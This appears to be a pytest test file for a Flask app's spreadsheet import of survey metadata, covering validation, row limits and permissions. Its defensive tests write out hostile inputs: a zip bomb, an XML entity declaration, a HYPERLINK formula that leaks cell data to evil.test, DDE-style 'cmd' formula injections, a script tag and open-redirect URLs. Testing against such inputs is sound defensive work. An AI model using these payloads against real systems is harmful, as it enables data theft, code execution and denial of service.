"""Bulk entry of MS-Var and MS-Ind from a spreadsheet (issue 22): the blank template with its
drop-downs of Indonesian labels, a 200-variable survey filled in it the way a person does and
imported whole, and every malformed sheet refused whole with its sheet, row and column named,
nothing of the request changed."""
from __future__ import annotations

import contextlib
import io
import re
import zipfile

import pytest
import sqlalchemy as sa
from flask_babel import force_locale
from openpyxl import Workbook, load_workbook
from openpyxl.utils import get_column_letter, range_boundaries

from app import models as m
from app.metadata import sheets
from app.requests.form import INDICATOR_FIELDS, VARIABLE_FIELDS

from conftest import app_config, database_url, login, seed

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(scope="module")
def mapp(app):
    """The app with the metadata pages: the suite's own once the lead registers the blueprint,
    else an app of this module's (a blueprint cannot join an app that already served)."""
    if "metadata.import_rows" in app.view_functions:
        return app
    from app import create_app
    from app.metadata.pages import bp

    live = create_app(app_config(database_url()))
    live.register_blueprint(bp)
    return live


@pytest.fixture
def db(mapp):
    """``with db() as session``: a session for a few statements, its app context gone before
    the next request (the test client's requests would share a pushed context, and its g)."""

    @contextlib.contextmanager
    def opened():
        with mapp.app_context():
            yield mapp.appbuilder.session

    return opened


@pytest.fixture(scope="module")
def people(mapp, world):
    return {name: login(mapp.test_client(), name)
            for name in ("applicant_a", "applicant_b", "officer_x", "officer_y")}


@pytest.fixture(scope="module")
def blank(mapp):
    with mapp.test_request_context("/"):
        return sheets.template()


# --- a person filling the template -------------------------------------------------------------


def open_book(data: bytes):
    return load_workbook(io.BytesIO(data))


def columns(ws) -> dict:
    """Heading (without its *) -> column number."""
    return {str(c.value).rstrip(" *"): c.column for c in ws[1] if c.value}


def drop_down(ws, column: int) -> list[str]:
    """The labels the cell's drop-down offers in row 3 (read from the list's range, as Excel
    shows them)."""
    letter = get_column_letter(column)
    for dv in ws.data_validations.dataValidation:
        if any(f"{letter}3" in str(r) or (r.min_col == column and r.min_row <= 3 <= r.max_row)
               for r in dv.sqref.ranges):
            assert dv.type == "list"
            sheet, area = dv.formula1.split("!")
            min_col, min_row, max_col, max_row = range_boundaries(area.replace("$", ""))
            lists = ws.parent[sheet]
            return [lists.cell(r, min_col).value for r in range(min_row, max_row + 1)]
    raise AssertionError(f"no drop-down in column {letter}")


def fill_variable(ws, row: int, n: int, cols: dict, choose) -> None:
    ws.cell(row, cols["Nama variabel"], f"Variabel uji {n:03d}")
    ws.cell(row, cols["Alias"], f"V{n:03d}")
    ws.cell(row, cols["Konsep"], "Konsep baku BPS untuk variabel ini.")
    ws.cell(row, cols["Definisi"], f"Definisi operasional variabel ke-{n}.")
    ws.cell(row, cols["Satuan"], "orang")
    ws.cell(row, cols["Tipe data"], choose("Tipe data", n))
    ws.cell(row, cols["Domain nilai"], "1 = Laki-laki; 2 = Perempuan")
    ws.cell(row, cols["Kalimat pertanyaan"], f"Pertanyaan nomor {n}?")
    ws.cell(row, cols["Rincian kuesioner"], 100 + n)  # typed as a number, as people do
    ws.cell(row, cols["Publik"], choose("Publik", n))


def fill_indicator(ws, row: int, n: int, cols: dict, choose) -> None:
    ws.cell(row, cols["Nama indikator"], f"Indikator uji {n:03d}")
    ws.cell(row, cols["Definisi"], "Perbandingan dua jumlah.")
    ws.cell(row, cols["Rumus"], "A / B × 100")
    ws.cell(row, cols["Indikator komposit"], choose("Indikator komposit", n))
    ws.cell(row, cols["Variabel pembangun"], "Variabel uji 001, Variabel uji 002")
    ws.cell(row, cols["Level estimasi"], "Nasional, Provinsi")
    ws.cell(row, cols["Periode penyajian"], choose("Periode penyajian", n))
    ws.cell(row, cols["Publik"], choose("Publik", n))


def filled(blank: bytes, variables: int = 200, indicators: int = 100) -> Workbook:
    """The template with ``variables`` and ``indicators`` rows, each choice picked from its
    cell's drop-down (its n-th label, in turn)."""
    wb = open_book(blank)
    for title, count, fill in (("Variabel", variables, fill_variable),
                               ("Indikator", indicators, fill_indicator)):
        ws = wb[title]
        cols = columns(ws)
        offered = {name: drop_down(ws, col) for name, col in cols.items()
                   if name in ("Tipe data", "Publik", "Indikator komposit", "Periode penyajian")}

        def choose(name, n, offered=offered):
            return offered[name][n % len(offered[name])]

        for n in range(1, count + 1):
            fill(ws, n + 2, n, cols, choose)
    return wb


def as_bytes(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def upload(client, req_id: int, data: bytes, name: str = "metadata-survei.xlsx", **form):
    return client.post(f"/metadata/requests/{req_id}/import",
                       data={"sheet": (io.BytesIO(data), name), **form},
                       content_type="multipart/form-data")


def draft_with_rows(db, world, wf, state: str = "draft") -> int:
    """applicant_a's request with two variables and an indicator already entered."""
    with db() as session:
        req_id = seed(session, world, wf, state)
        session.add_all([
            m.RequestVariable(request_id=req_id, position=1, name="Umur lama"),
            m.RequestVariable(request_id=req_id, position=2, name="Jenis kelamin lama"),
            m.RequestIndicator(request_id=req_id, position=1, name="Rasio lama")])
        session.commit()
    return req_id


def stored(db, req_id: int):
    with db() as session:
        names = session.scalars(sa.select(m.RequestVariable.name).where(
            m.RequestVariable.request_id == req_id).order_by(m.RequestVariable.position)).all()
        indicators = session.scalars(sa.select(m.RequestIndicator.name).where(
            m.RequestIndicator.request_id == req_id).order_by(m.RequestIndicator.position)).all()
    return names, indicators


def messages(response) -> list[str]:
    page = response.get_data(as_text=True)
    box = re.search(r'id="import-errors".*?</div>', page, re.S)
    assert box, page[:2000]
    return [re.sub(r"\s+", " ", _unescape(li)).strip()
            for li in re.findall(r"<li>(.*?)</li>", box.group(0), re.S)]


def _unescape(text: str) -> str:
    import html

    return html.unescape(text)


# --- the template ------------------------------------------------------------------------------


def test_the_template_downloads_with_its_sheets_headings_and_drop_downs(mapp, people):
    assert mapp.test_client().get("/metadata/template.xlsx").status_code == 302  # log in first
    response = people["applicant_a"].get("/metadata/template.xlsx")
    assert response.status_code == 200
    assert response.mimetype == XLSX
    assert "template-metadata-rekomstat.xlsx" in response.headers["Content-Disposition"]
    wb = open_book(response.data)
    assert wb.sheetnames[:3] == ["Petunjuk", "Variabel", "Indikator"]
    assert wb["Daftar"].sheet_state == "hidden"
    with mapp.test_request_context("/"), force_locale("id"):
        for title, fields in (("Variabel", VARIABLE_FIELDS), ("Indikator", INDICATOR_FIELDS)):
            ws = wb[title]
            assert [c.value for c in ws[1]] == [
                str(f.label) + (" *" if f.required else "") for f in fields]
            assert ws.freeze_panes == "B3"  # headings, help and names stay in view
            help_row = [c.value for c in ws[2]]
            assert all(help_row), help_row
            assert ws[1][0].comment is not None
            cols = columns(ws)
            for f in fields:
                col = cols[str(f.label)]
                assert ws.column_dimensions[get_column_letter(col)].width >= 20
                if f.kind in ("select", "multi"):
                    assert drop_down(ws, col) == [str(v) for v in f.choices.values()]
                elif f.kind == "bool":
                    assert drop_down(ws, col) == ["Ya", "Tidak"]
            # Each drop-down covers the rows the limit allows.
            assert all(str(dv.sqref).endswith(str(2 + (200 if title == "Variabel" else 100)))
                       for dv in ws.data_validations.dataValidation)
        assert drop_down(wb["Variabel"], columns(wb["Variabel"])["Tipe data"]) == [
            "Teks", "Bilangan bulat", "Bilangan desimal", "Tanggal", "Ya/tidak"]
        multi = [dv for dv in wb["Indikator"].data_validations.dataValidation
                 if str(dv.sqref).startswith("N")]
        assert multi and not multi[0].showErrorMessage  # several labels typed with commas
        assert "pisahkan dengan koma" in wb["Indikator"]["N2"].value
    guide = "\n".join(str(c.value) for c in wb["Petunjuk"]["A"] if c.value)
    assert "200 variabel dan 100 indikator" in guide
    assert "1 = Laki-laki; 2 = Perempuan" in guide


# --- a whole survey ----------------------------------------------------------------------------


def test_a_200_variable_survey_from_the_template_imports_whole(mapp, people, db, world,
                                                              wf, blank):
    req_id = draft_with_rows(db, world, wf)
    client = people["applicant_a"]
    response = upload(client, req_id, as_bytes(filled(blank)))
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/portal/requests/{req_id}/edit#variables")
    page = client.get(f"/portal/requests/{req_id}/edit").get_data(as_text=True)
    assert "200 variabel dan 100 indikator berhasil diimpor." in page
    assert "Variabel uji 200" in page and "Variabel uji 001" in page

    with db() as session:
        req = session.get(m.ActivityRequest, req_id)
        variables, indicators = list(req.variables), list(req.indicators)
    assert [v.name for v in variables] == [f"Variabel uji {n:03d}" for n in range(1, 201)]
    assert [v.position for v in variables] == list(range(1, 201))
    first, second = variables[0], variables[1]
    # the n-th label of each list, stored as its code
    assert (first.data_type, second.data_type) == ("integer", "decimal")
    assert (first.public, second.public) == (False, True)
    assert first.questionnaire_item == "101"  # a number typed in a text column: its text
    assert first.value_domain == "1 = Laki-laki; 2 = Perempuan"
    assert {v.data_type for v in variables} == set(m.VARIABLE_TYPES)
    assert len(indicators) == 100
    ind = indicators[0]
    assert ind.name == "Indikator uji 001"
    assert ind.estimation_level == "national,province"
    assert ind.periodicity == "weekly" and ind.composite is False
    assert indicators[1].periodicity == "monthly" and indicators[1].composite is True
    assert ind.source_variables == "Variabel uji 001, Variabel uji 002"


def test_a_sheet_left_empty_keeps_that_table_of_the_form(mapp, people, db, world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    client = people["applicant_a"]
    response = upload(client, req_id, as_bytes(filled(blank, variables=3, indicators=0)))
    assert response.status_code == 302
    page = client.get(f"/portal/requests/{req_id}/edit").get_data(as_text=True)
    assert "3 variabel diimpor; indikator pada formulir tetap." in page
    assert stored(db, req_id) == (
        ["Variabel uji 001", "Variabel uji 002", "Variabel uji 003"], ["Rasio lama"])
    response = upload(client, req_id, as_bytes(filled(blank, variables=0, indicators=2)))
    assert response.status_code == 302
    page = client.get(f"/portal/requests/{req_id}/edit").get_data(as_text=True)
    assert "2 indikator diimpor; variabel pada formulir tetap." in page
    assert stored(db, req_id) == (
        ["Variabel uji 001", "Variabel uji 002", "Variabel uji 003"],
        ["Indikator uji 001", "Indikator uji 002"])


def test_labels_codes_yes_no_and_numbers_are_read_as_people_write_them(mapp, blank):
    wb = open_book(blank)
    ws, cols = wb["Variabel"], columns(wb["Variabel"])
    rows = [("  bilangan   BULAT ", "ya", 101.0), ("decimal", "TIDAK", "007"),
            ("Whole number", True, 2.5), ("Tanggal", 0, None)]
    for row, (kind, public, item) in enumerate(rows, start=3):
        ws.cell(row, cols["Nama variabel"], f"V{row}")
        ws.cell(row, cols["Tipe data"], kind)
        ws.cell(row, cols["Publik"], public)
        ws.cell(row, cols["Rincian kuesioner"], item)
    ws.cell(9, cols["Nama variabel"], "Dipisah baris kosong")  # rows 7-8 blank: skipped
    ind, icols = wb["Indikator"], columns(wb["Indikator"])
    ind.cell(3, icols["Nama indikator"], "I1")
    ind.cell(3, icols["Level estimasi"], "kabupaten/KOTA;  nasional")
    with mapp.test_request_context("/"):
        variables, indicators = sheets.read(io.BytesIO(as_bytes(wb)))
    assert [(v["name"], v["data_type"], v["public"], v["questionnaire_item"])
            for v in variables] == [
        ("V3", "integer", True, "101"), ("V4", "decimal", False, "007"),
        ("V5", "integer", True, "2.5"), ("V6", "date", False, None),
        ("Dipisah baris kosong", None, None, None)]
    assert indicators[0]["estimation_level"] == "national,regency"


# --- refused whole -----------------------------------------------------------------------------


def test_mistakes_are_refused_whole_each_named_by_sheet_row_and_column(mapp, people, db,
                                                                      world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    before = stored(db, req_id)
    wb = filled(blank)
    ws, cols = wb["Variabel"], columns(wb["Variabel"])
    ws.cell(7, cols["Tipe data"], "Angka romawi")  # not in the list
    ws.cell(150, cols["Nama variabel"]).value = None  # the name missing …
    ws.cell(150, cols["Alias"], "A" * 101)  # … and an alias too long
    ws.cell(150, cols["Definisi"], "x" * 2001)
    ind, icols = wb["Indikator"], columns(wb["Indikator"])
    ind.cell(4, icols["Level estimasi"], "Nasional, Antariksa")
    response = upload(people["applicant_a"], req_id, as_bytes(wb))
    assert response.status_code == 422
    assert messages(response) == [
        "Sheet Variabel, baris 7, kolom I (Tipe data): pilih salah satu pilihan yang tersedia.",
        "Sheet Variabel, baris 150, kolom B (Alias): paling banyak 100 karakter.",
        "Sheet Variabel, baris 150, kolom D (Definisi): paling banyak 2000 karakter.",
        "Sheet Variabel, baris 150, kolom A (Nama variabel): kolom ini wajib diisi.",
        "Sheet Indikator, baris 4, kolom N (Level estimasi): pilih salah satu pilihan yang "
        "tersedia.",
    ]
    page = response.get_data(as_text=True)
    assert "Tidak ada yang diubah" in page and f"/portal/requests/{req_id}/edit" in page
    assert stored(db, req_id) == before == (["Umur lama", "Jenis kelamin lama"],
                                                 ["Rasio lama"])


def test_more_rows_than_the_limits_are_refused(mapp, people, db, world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    wb = filled(blank, variables=200, indicators=101)
    ws, cols = wb["Variabel"], columns(wb["Variabel"])
    ws.cell(203, cols["Nama variabel"], "Variabel ke-201")  # below the drop-downs' rows
    response = upload(people["applicant_a"], req_id, as_bytes(wb))
    assert response.status_code == 422
    assert messages(response) == [
        "Sheet Variabel berisi 201 baris terisi; paling banyak 200 baris yang diperbolehkan.",
        "Sheet Indikator berisi 101 baris terisi; paling banyak 100 baris yang diperbolehkan.",
    ]
    assert stored(db, req_id)[0] == ["Umur lama", "Jenis kelamin lama"]


def _zip(members: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _bomb() -> bytes:
    """An xlsx-looking zip whose sheet unpacks to 80 MB (some 80 KB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1 << 20)
            for _ in range(80):
                member.write(chunk)
    return out.getvalue()


def _garbled(data: bytes) -> bytes:
    """The workbook with the middle of its Variabel sheet's packed bytes overwritten."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet2.xml")
    start = info.header_offset + 30 + len(info.filename) + len(info.extra)
    middle = start + info.compress_size // 2
    return data[:middle] + b"\xff" * 64 + data[middle + 64:]


NOT_XLSX = "bukan buku kerja Excel (.xlsx)"
DAMAGED = "tidak dapat dibaca sebagai buku kerja Excel"


@pytest.mark.parametrize("name, data, said", [
    ("kosong.xlsx", b"", "kosong"),
    ("daftar.xlsx", "Nama variabel;Tipe data\nUmur;Bilangan bulat\n".encode(), NOT_XLSX),
    ("surat.xlsx", b"%PDF-1.4 a letter", NOT_XLSX),
    ("lama.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, NOT_XLSX),
    ("dokumen.xlsx", _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}),
     NOT_XLSX),
    ("rusak.xlsx", b"PK\x03\x04" + b"\x00" * 300, NOT_XLSX),
    ("terpotong.xlsx", "cut", NOT_XLSX),  # the real template cut short: no zip directory
    ("rusak-isi.xlsx", "garbled", DAMAGED),  # its sheet's packed bytes garbled
    ("bom.xlsx", _bomb(), DAMAGED),
    ("entitas.xlsx", _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml":
                           '<!DOCTYPE w [<!ENTITY a "aaaa">]><workbook>&a;</workbook>'}),
     DAMAGED),
    ("palsu.xlsx", _zip({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<wb"}),
     DAMAGED),
    ("besar.xlsx", b"PK\x03\x04" + b"\x00" * (10 * 1024 * 1024), "lebih besar dari 10 MB"),
])
def test_what_is_not_a_filled_template_is_refused(mapp, people, db, world, wf, blank,
                                                  name, data, said):
    req_id = draft_with_rows(db, world, wf)
    if data == "cut":
        data = as_bytes(filled(blank))[:6000]
    elif data == "garbled":
        data = _garbled(as_bytes(filled(blank)))
    response = upload(people["applicant_a"], req_id, data, name)
    assert response.status_code == 422
    assert len(messages(response)) == 1 and said in messages(response)[0]
    assert stored(db, req_id)[0] == ["Umur lama", "Jenis kelamin lama"]


def test_a_real_workbook_not_named_xlsx_and_no_file_at_all_are_refused(mapp, people, db,
                                                                      world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    client = people["applicant_a"]
    response = upload(client, req_id, as_bytes(filled(blank, 3, 1)), "metadata.csv")
    assert response.status_code == 422 and NOT_XLSX in messages(response)[0]
    response = client.post(f"/metadata/requests/{req_id}/import", data={},
                           content_type="multipart/form-data")
    assert response.status_code == 400
    assert messages(response) == ["Pilih berkas template (.xlsx) yang sudah diisi untuk "
                                  "diunggah."]
    assert stored(db, req_id)[0] == ["Umur lama", "Jenis kelamin lama"]


def test_a_sheet_not_made_from_the_template_is_refused(mapp, people, db, world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    wb = filled(blank, 5, 2)
    ws = wb["Variabel"]
    ws["I1"] = "Jenis data"  # a heading renamed: "Tipe data" missing, an unknown one
    ws["P1"] = "Nama variabel"  # a heading twice
    del wb["Indikator"]
    response = upload(people["applicant_a"], req_id, as_bytes(wb))
    assert response.status_code == 422
    assert messages(response) == [
        "Sheet Variabel, kolom I: judul kolom \"Jenis data\" tidak terdapat pada template; "
        "gunakan template dari Rekomstat.",
        "Sheet Variabel, kolom P: kolom \"Nama variabel\" muncul dua kali.",
        "Sheet Variabel: kolom \"Tipe data\" tidak ada; gunakan template dari Rekomstat.",
        "Sheet Indikator tidak ditemukan: gunakan template dari Rekomstat.",
    ]
    # A workbook of someone's own making, and the blank template itself.
    own = Workbook()
    own.active.append(["Nama", "Tipe"])
    own.active.append(["Umur", "Bilangan bulat"])
    response = upload(people["applicant_a"], req_id, as_bytes(own))
    assert response.status_code == 422
    assert "Sheet Variabel tidak ditemukan: gunakan template dari Rekomstat." in \
        messages(response)
    response = upload(people["applicant_a"], req_id, blank)
    assert messages(response) == ["Berkas tidak berisi variabel maupun indikator."]
    assert stored(db, req_id)[0] == ["Umur lama", "Jenis kelamin lama"]


def _with_rows(data: bytes, rows: bytes) -> bytes:
    """The workbook with ``rows`` (XML) added at the end of the Variabel sheet's data."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in src.infolist():
            content = src.read(item)
            if item.filename == "xl/worksheets/sheet2.xml":
                assert b"</sheetData>" in content
                content = content.replace(b"</sheetData>", rows + b"</sheetData>")
            archive.writestr(item, content)
    return out.getvalue()


def test_a_sheet_of_a_million_rows_is_refused_and_a_far_row_is_read(mapp, blank):
    """Rows a file holds cost parsing even when empty: past 5 000 the sheet is no template.
    Rows it leaves out cost nothing: a name on Excel's last row is read (quickly)."""
    wb = filled(blank, 3, 0)
    empty_rows = b"".join(b'<row r="%d"/>' % n for n in range(10, 1_000_000))
    with mapp.test_request_context("/"), pytest.raises(sheets.SheetError) as refused:
        sheets.read(_with_rows(as_bytes(wb), empty_rows))
    assert refused.value.messages == [
        "Sheet Variabel terlalu besar untuk sheet dari template."]
    far = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Jauh</t></is></c></row>'
    with mapp.test_request_context("/"):
        variables, _ = sheets.read(_with_rows(as_bytes(wb), far))
    assert [v["name"] for v in variables][-2:] == ["Variabel uji 003", "Jauh"]


def _with_cached_value(data: bytes, cell: str, cached: str) -> bytes:
    """The workbook with ``cell``'s formula given a saved value, as Excel saves one."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in src.infolist():
            content = src.read(item)
            if item.filename == "xl/worksheets/sheet2.xml":  # Variabel
                text = content.decode()
                pattern = rf'<c r="{cell}"([^>]*)><f>([^<]*)</f><v\s*/?>(</v>)?</c>'
                assert re.search(pattern, text), text[:500]
                text = re.sub(pattern, rf'<c r="{cell}"\1 t="str"><f>\2</f><v>{cached}</v></c>',
                              text)
                content = text.encode()
            archive.writestr(item, content)
    return out.getvalue()


def test_formulas_are_never_evaluated_and_hostile_text_stays_text(mapp, people, db, world,
                                                                  wf, blank):
    req_id = draft_with_rows(db, world, wf)
    wb = filled(blank, 4, 1)
    ws, cols = wb["Variabel"], columns(wb["Variabel"])
    ws.cell(3, cols["Definisi"], '=HYPERLINK("http://evil.test/?"&A3,"Klik")')  # a formula
    hostile = "=cmd|' /C calc'!A0"
    ws.cell(4, cols["Definisi"], hostile).data_type = "s"  # typed as text ('=cmd…)
    ws.cell(5, cols["Konsep"], "@SUM(1+1)*cmd|'/C calc'!A0 _x0007_ <script>alert(1)</script>")
    response = upload(people["applicant_a"], req_id, as_bytes(wb))
    assert response.status_code == 422
    assert messages(response) == [
        "Sheet Variabel, baris 3, kolom D (Definisi): rumus tanpa nilai tersimpan; tuliskan "
        "nilainya."]
    assert stored(db, req_id)[0] == ["Umur lama", "Jenis kelamin lama"]

    # Saved by a spreadsheet program: the value it saved is taken, the formula never run.
    data = _with_cached_value(as_bytes(wb), "D3", "Definisi hasil rumus")
    response = upload(people["applicant_a"], req_id, data)
    assert response.status_code == 302, messages(response)
    with db() as session:
        rows = list(session.get(m.ActivityRequest, req_id).variables)
    assert rows[0].definition == "Definisi hasil rumus"
    assert rows[1].definition == hostile
    assert rows[2].concept.startswith("@SUM(1+1)*cmd") and "<script>" in rows[2].concept


def test_a_formula_showing_an_error_is_refused(mapp, people, db, world, wf, blank):
    req_id = draft_with_rows(db, world, wf)
    wb = filled(blank, 3, 0)
    ws, cols = wb["Variabel"], columns(wb["Variabel"])
    ws.cell(4, cols["Satuan"], "=VLOOKUP(A4,Daftar!A:A,2,FALSE)")
    data = as_bytes(wb)
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for item in src.infolist():
            content = src.read(item)
            if item.filename == "xl/worksheets/sheet2.xml":
                content = re.sub(rb'<c r="H4"([^>]*)><f>([^<]*)</f><v\s*/?>(</v>)?</c>',
                                 rb'<c r="H4"\1 t="e"><f>\2</f><v>#N/A</v></c>', content)
            archive.writestr(item, content)
    response = upload(people["applicant_a"], req_id, out.getvalue())
    assert messages(response) == [
        "Sheet Variabel, baris 4, kolom H (Satuan): sel menunjukkan kesalahan (#N/A); "
        "tuliskan nilainya."]


# --- who may import ----------------------------------------------------------------------------


def test_only_whoever_may_edit_the_request_imports(mapp, people, db, world, wf, blank):
    data = as_bytes(filled(blank, 3, 1))
    draft = draft_with_rows(db, world, wf)
    # Another applicant, staff of another office: the request does not exist for them.
    for who in ("applicant_b", "officer_y"):
        assert upload(people[who], draft, data).status_code == 404
    assert upload(people["applicant_a"], 10**9, data).status_code == 404
    assert stored(db, draft)[0] == ["Umur lama", "Jenis kelamin lama"]

    # The applicant's submitted request is no longer theirs to change; its office's staff may.
    submitted = draft_with_rows(db, world, wf, "submitted")
    response = upload(people["applicant_a"], submitted, data)
    assert response.status_code == 409
    assert messages(response) == ["Permohonan dengan status ini tidak dapat diubah lagi."]
    assert stored(db, submitted)[0] == ["Umur lama", "Jenis kelamin lama"]

    staff_page = f"/activityrequestview/show/{submitted}"
    response = upload(people["officer_x"], submitted, data, next=staff_page)
    assert response.status_code == 302 and response.headers["Location"] == staff_page
    assert stored(db, submitted) == (
        ["Variabel uji 001", "Variabel uji 002", "Variabel uji 003"], ["Indikator uji 001"])
    # Without `next`, or with one that leaves the site, staff go to their page of it.
    for away in (None, "//evil.test/x", "https://evil.test/", "/\\evil.test"):
        response = upload(people["officer_x"], submitted, data,
                          **({"next": away} if away else {}))
        assert response.status_code == 302
        assert response.headers["Location"] == staff_page, away
    # The applicant's own draft: back to the form's variables.
    response = upload(people["applicant_a"], draft, data, next="https://evil.test/")
    assert response.headers["Location"] == f"/portal/requests/{draft}/edit#variables"
